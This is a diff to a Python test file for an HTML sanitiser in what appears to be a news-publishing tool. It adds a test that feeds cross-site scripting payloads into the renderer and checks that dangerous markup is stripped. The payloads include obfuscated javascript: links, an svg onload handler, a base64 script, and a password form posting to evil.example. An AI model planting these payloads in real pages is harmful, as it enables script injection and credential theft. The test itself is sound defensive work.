@@ -150,6 +150,29 @@ class TestBody:
         assert "<iframe" not in lowered
         assert '<img src="/x.png">' in html
 
+    @pytest.mark.parametrize(
+        "body",
+        [
+            "[x](JaVaScRiPt:alert(1))",
+            "[x](  javascript:alert(1))",
+            '<a href="java&#x09;script:alert(1)">x</a>',
+            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+            '<svg onload="alert(1)"><circle r="1"/></svg>',
+            "<style>body{display:none}</style>",
+            '<form action="https://evil.example/"><input name="password"></form>',
+            '<object data="https://evil.example/x.swf"></object>',
+            '<p style="background:url(javascript:alert(1))">styled</p>',
+            '<img src="x" srcset="javascript:alert(1) 1x">',
+        ],
+    )
+    def test_other_attack_vectors_are_neutralised(self, body):
+        html = self.body_html(body).lower()
+        for dangerous in (
+            "javascript:", "data:", "<svg", "onload", "<style", "<form", "<input", "<object",
+            "style=", "srcset",
+        ):  # fmt: skip
+            assert dangerous not in html, (body, html)
+
     def test_journalism_markup_is_kept(self):
         html = self.body_html(
             "# Big heading\n\n## Sub heading\n\n> A quote from a minister.\n\n"
